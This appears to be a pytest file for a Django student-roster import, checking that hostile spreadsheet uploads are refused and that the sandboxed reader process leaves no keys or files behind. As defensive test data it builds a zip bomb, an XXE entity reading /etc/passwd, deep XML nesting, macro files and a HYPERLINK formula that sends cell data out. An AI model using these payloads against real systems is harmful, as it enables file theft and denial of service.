"""Hostile files, and a child that dies: always a sentence, and nothing left behind."""

from __future__ import annotations

import io
import os
import re
import signal
import struct
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings

from aidcases.crypto import SealBroken, open_sealed, write_sealed
from students.imports import sheets
from students.imports.reader import Limits, Refused, read_roster
from students.imports.sandbox import started
from tests.students.spreadsheets import (
    ONE,
    RING,
    ROLL,
    SHEET,
    TWO,
    names,
    read,
    rezipped,
    shared,
    sheet_xml,
    texts,
    xlsx,
)


def _bomb() -> bytes:
    return rezipped(xlsx([ROLL, ONE]), sheet1=sheet_xml(" " * (100 << 20)))


def _spelled(change: Callable[[bytes], bytes]) -> bytes:
    return rezipped(xlsx([[]]), sheet1=change(sheet_xml(texts(1, ROLL))))


def _liar() -> bytes:
    """A sheet that says it unpacks to 100 bytes."""
    content = xlsx([ROLL, *[ONE] * 50])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        info = archive.getinfo(SHEET)
    size = struct.pack("<I", info.file_size)
    return content.replace(size, struct.pack("<I", 100))


def _entities(part: str) -> Callable[[], bytes]:
    dtd = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;">]>'

    def made() -> bytes:
        def poisoned(data: bytes) -> bytes:
            start = data.index(b"?>") + 2 if data.startswith(b"<?xml") else 0
            return data[:start] + dtd + data[start:]

        return rezipped(shared([ROLL, ONE]), **{part: poisoned})

    return made


def _wide() -> bytes:
    cells = "".join(f'<c r="{sheets.column_letters(place)}1"><v>1</v></c>' for place in range(10_000))
    return rezipped(xlsx([[]]), sheet1=sheet_xml(f'<row r="1">{cells}</row>'))


def _locked() -> bytes:
    content = bytearray(xlsx([ROLL, ONE]))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def _huge() -> bytes:
    """A sheet that says it unpacks to 2 GB, in the zip's table of contents and at its start."""
    content = xlsx([ROLL, *[ONE] * 50])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        size = archive.getinfo(SHEET).file_size
    return content.replace(struct.pack("<I", size), struct.pack("<I", 2 << 30))


def _nested(part: str, depth: int) -> Callable[[], bytes]:
    """Elements inside elements, as deep as memory goes in a careless parser."""
    return lambda: rezipped(shared([ROLL, ONE]), **{part: lambda data: data[:-1] + b"x>" + b"<a>" * depth})


def _pictures() -> bytes:
    """A scan pasted into an empty sheet."""
    return rezipped(xlsx([]), image1=b"\x89PNG\r\n\x1a\n" + bytes(3000))


def _mixed() -> bytes:
    """One half in UTF-8, the other in GBK, as two files joined by hand."""
    return "\n".join((",".join(ROLL), ",".join(ONE))).encode() + b"\n" + ",".join(TWO).encode("gbk") + b"\xff\xff\n"


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "zip bomb": (_bomb, "a.xlsx", "太大"),
    "lying size": (_liar, "a.xlsx", "损坏"),
    "entities in the sheet": (_entities("sheet1"), "a.xlsx", "安全"),
    "entities in the workbook": (_entities("workbook"), "a.xlsx", "安全"),
    "entities in the strings": (_entities("sharedStrings"), "a.xlsx", "安全"),
    "10,000 columns": (_wide, "a.xlsx", "10000 列"),
    "cut zip": (lambda: xlsx([ROLL, ONE])[:3000], "a.xlsx", "损坏"),
    "zip of nothing": (lambda: b"PK\x03\x04" + bytes(100), "a.xlsx", "损坏"),
    "picture": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(300), "a.xlsx", "不是表格"),
    "pdf": (lambda: b"%PDF-1.7\n" + bytes(300), "a.xlsx", "不是表格"),
    "bytes": (lambda: bytes(range(256)) * 9, "a.csv", "损坏"),
    "macros by name": (lambda: xlsx([ROLL, ONE]), "a.xlsm", "宏"),
    "macros by content": (lambda: rezipped(xlsx([ROLL, ONE]), vbaProject=b"x"), "a.xlsx", "宏"),
    "macros in xls": (lambda: OLE + "_VBA_PROJECT".encode("utf-16-le"), "a.xls", "宏"),
    "wps": (lambda: OLE, "台账.ET", ".et 格式"),
    "empty": (lambda: b"", "a.xlsx", "空的"),
    "password": (_locked, "a.xlsx", "密码"),
    "password over all": (lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "a.xlsx", "密码"),
    "word": (lambda: OLE + "WordDocument".encode("utf-16-le"), "a.xls", "另存为 .xlsx"),
    "damaged xls": (lambda: OLE + "Workbook".encode("utf-16-le") * 50, "a.xls", "损坏"),
    "another zip": (lambda: rezipped(xlsx([ROLL]), _Content_Types_=None), "a.xlsx", "不是 Excel"),
    "xml of 2003": (
        lambda: b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
        "a.xls",
        "另存为 .xlsx",
    ),
    "2 GB declared": (_huge, "a.xlsx", "太大"),
    "a million elements deep": (_nested("workbook", 1_000_000), "a.xlsx", "损坏"),
    "a sheet three million deep": (lambda: _spelled(lambda _: sheet_xml("<a>" * 3_000_000)), "a.xlsx", "损坏"),
    "pictures only": (_pictures, "a.xlsx", "没有文字"),
    "a page without a table": (lambda: "<html><body><p>请登录</p></body></html>".encode(), "台账.xls", "没有文字"),
    "a page of gifts": (lambda: b"<html><table>" + b"<tr><td>x" * 3 + b"</html>", "台账.xls", "没有找到表头"),
    "mixed encodings": (_mixed, "a.csv", "文字读不出来"),
    "a csv that is called xlsx is read, but not this": (lambda: b"\0" * 5000, "a.xlsx", "损坏"),
    "wps in disguise": (lambda: OLE + "ETExtData".encode("utf-16-le"), "a.xls", "另存为 .xlsx"),
    "spreadsheet of OpenOffice": (
        lambda: rezipped(xlsx([ROLL]), _Content_Types_=None, mimetype=b"application/vnd.oasis.opendocument.spreadsheet"),
        "a.ods",
        "不是 Excel",
    ),
    "a template with macros": (lambda: xlsx([ROLL, ONE]), "a.xltm", "宏"),
    "no utf-8": (lambda: _spelled(lambda xml: xml.replace("姓".encode(), b"\xff\xfe")), "a.xlsx", "损坏"),
    "unended": (lambda: _spelled(lambda xml: xml[:-30]), "a.xlsx", "损坏"),
    "string out of range": (
        lambda: rezipped(xlsx([["x"]]), sheet1=sheet_xml('<row r="1"><c r="A1" t="s"><v>99999</v></c></row>')),
        "a.xlsx",
        "损坏",
    ),
}


class TestHostileFiles:
    @pytest.mark.parametrize("name", HOSTILE)
    def test_refused_with_a_sentence(self, name: str, tmp_path: Path):
        make, filename, part = HOSTILE[name]
        with pytest.raises(Refused) as caught:
            read(make(), "roll", tmp_path, filename)
        [sentence] = caught.value.reasons
        assert part in sentence
        assert sentence.endswith("。")

    def test_a_nul_far_into_a_csv_is_a_blank_like_any_other(self, tmp_path: Path):
        lines = [",".join(ROLL), *[",".join(ONE)] * 200, ",".join(TWO).replace("杨", "杨\0")]
        assert names(read("\n".join(lines).encode(), "roll", tmp_path, "a.csv"))[-1] == "杨然欣"

    def test_a_wrong_extension_is_read_for_what_it_is(self, tmp_path: Path):
        assert names(read(xlsx([ROLL, ONE]), "roll", tmp_path, "名单.csv")) == ["杨宇"]
        assert names(read("\n".join((",".join(ROLL), ",".join(ONE))).encode("gbk"), "roll", tmp_path, "a.xlsx")) == ["杨宇"]

    def test_what_a_formula_would_do_is_kept_as_text(self, tmp_path: Path):
        evil = '=HYPERLINK("http://x/?"&A1,"ok")'
        row = [*ONE[:1], evil, *ONE[2:]]
        assert names(read("\n".join((",".join(ROLL), ",".join(f'"{cell.replace(chr(34), chr(34) * 2)}"' for cell in row)))
                          .encode(), "roll", tmp_path, "a.csv")) == [evil]  # fmt: skip

    def test_one_cell_in_the_last_corner_is_no_danger(self, tmp_path: Path):
        rows = texts(1, ROLL) + texts(2, ONE) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        content = sheet_xml(rows).replace(b"<sheetData", b'<dimension ref="A1:XFD1048576"/><sheetData')
        found = read(rezipped(xlsx([[]]), sheet1=content), "roll", tmp_path)
        assert (names(found), found.summary.rows) == (["杨宇"], 1)

    def test_very_many_blank_rows_are_no_danger(self, tmp_path: Path):
        blank = "".join(f'<row r="{number}"><c r="A{number}" s="1"/></row>' for number in range(3, 50_000))
        content = rezipped(xlsx([[]]), sheet1=sheet_xml(texts(1, ROLL) + texts(2, ONE) + blank))
        assert read(content, "roll", tmp_path).summary.rows == 1

    def test_a_changed_upload_is_not_read(self, tmp_path: Path):
        write_sealed(tmp_path / "upload", [xlsx([ROLL, ONE])], RING)
        sealed = (tmp_path / "upload").read_bytes()
        (tmp_path / "upload").write_bytes(sealed[:-1] + bytes([sealed[-1] ^ 1]))
        with pytest.raises(SealBroken):
            read_roster(tmp_path / "upload", "roll", 7, filename="a.xlsx", keyring=RING)


class TestProcess:
    """Whatever happens to the child, the parent gets a sentence and nothing is left behind."""

    @pytest.fixture
    def long(self, tmp_path: Path) -> Path:
        rows = [ROLL] + [[*ONE[:1], f"杨{number}", *ONE[2:]] for number in range(8_000)]
        body = "".join(texts(number, row) for number, row in enumerate(rows, 1))
        write_sealed(tmp_path / "upload", [rezipped(xlsx([[]]), sheet1=sheet_xml(body))], RING)
        return tmp_path / "upload"

    def test_it_knows_no_django(self):
        code = (
            "import sys; from students.imports import child, reading, marking, limited;"
            "print([name for name in ('django', 'python_calamine', 'openpyxl') if name in sys.modules])"
        )
        found = subprocess.run([sys.executable, "-c", code], cwd=settings.PROJECT, capture_output=True, text=True)
        assert found.stdout == "[]\n", found.stderr

    @pytest.mark.parametrize(
        ("limits", "part"),
        [(Limits(memory=30 << 20), "太大"), (Limits(wall=1), "太长"), (Limits(rows=100), "太大")],
    )
    def test_its_limits_end_in_a_sentence(self, limits: Limits, part: str, long: Path):
        def slow(file: Any) -> None:
            file.read(100)
            time.sleep(1.2)
            while file.read(1 << 16):
                pass

        with pytest.raises(Refused, match=part):
            read_roster(long, "roll", 7, filename="a.xlsx", keyring=RING, sink=slow, limits=limits)

    def test_when_it_is_killed_the_copy_fails_and_nothing_remains(self, long: Path):
        seen: list[int] = []

        def killing(file: Any) -> None:
            file.read(1000)
            seen.extend(_children())
            for pid in seen:
                os.kill(pid, signal.SIGKILL)
            file.read()
            pytest.fail("the lines ended as if they were all")

        with pytest.raises(Refused, match="。"):
            read_roster(long, "roll", 7, filename="a.xlsx", keyring=RING, sink=killing)
        assert seen
        assert not set(seen) & set(_children())

    def test_when_the_sink_fails_its_error_comes_through(self, long: Path):
        seen: list[int] = []

        def failing(file: Any) -> None:
            file.read(1000)
            seen.extend(_children())
            raise LookupError("disk full")

        with pytest.raises(LookupError, match="disk full"):
            read_roster(long, "roll", 7, filename="a.xlsx", keyring=RING, sink=failing)
        assert seen
        assert not set(seen) & set(_children())

    def test_keys_and_plaintext_are_nowhere_to_be_seen(self, long: Path):
        keys = RING.dump().values()
        seen: list[bytes] = []

        def looking(file: Any) -> None:
            file.read(1000)
            for pid in _children():
                folder = Path(f"/proc/{pid}")
                seen.append((folder / "cmdline").read_bytes() + (folder / "environ").read_bytes())
                paths = [os.readlink(entry) for entry in (folder / "fd").iterdir()]
                assert all(path.startswith(("/memfd:", "pipe:", "/dev/null")) for path in paths), paths
            file.read()

        read_roster(long, "roll", 7, filename="a.xlsx", keyring=RING, sink=looking)
        assert seen
        assert not [key for key in keys if any(key.encode() in view for view in seen)]
        assert not any(ONE[2].encode() in view for view in seen)

    def test_it_can_write_no_file_and_drop_no_core(self, long: Path):
        with open_sealed(long, RING) as source:
            order = {"task": "read", "keys": RING.dump(), "kind": "roll", "file_id": 1, "filename": "a.xlsx"}
            order |= {"today": "2026-11-21", "look_only": False, "choice": None, "saved": {}}
            with started(order, source, Limits()) as child:
                child.first()
                text = Path(f"/proc/{child._process.pid}/limits").read_text()
        limits = dict(re.findall(r"^Max (.+?) {2,}(\S+)", text, re.MULTILINE))
        assert (limits["file size"], limits["core file size"], limits["open files"]) == ("0", "0", "64")
        assert limits["address space"] == str(Limits().memory)


def _children() -> list[int]:
    """Process ids of running reading processes, helpers included."""
    found = []
    for folder in Path("/proc").iterdir():
        if folder.name.isdigit():
            try:
                command, status = (folder / "cmdline").read_bytes(), (folder / "stat").read_text()
            except OSError:
                continue
            mine = f" {os.getpid()} " in status or b"students.imports.child" in command
            if b"students.imports.child" in command and mine and _is_ours(int(folder.name)):
                found.append(int(folder.name))
    return found


def _is_ours(pid: int) -> bool:
    """Whether this test run is among its ancestors: other runs may go on beside it."""
    while pid > 1:
        try:
            pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
        except OSError:
            return False
        if pid == os.getpid():
            return True
    return False
